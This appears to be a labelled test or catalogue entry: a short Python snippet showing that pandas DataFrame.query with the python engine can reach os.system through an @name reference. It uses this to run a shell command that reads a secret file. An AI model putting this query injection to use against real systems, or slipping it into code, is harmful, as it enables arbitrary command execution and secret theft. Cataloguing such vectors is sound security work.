# DataFrame.query calls what an @name leads to.
# effect: run
# tree: scientific
import pandas
frame = pandas.DataFrame({"a": [1]})
frame.query("@pandas.io.common.os.system('cat @SECRET@') == a", engine="python")
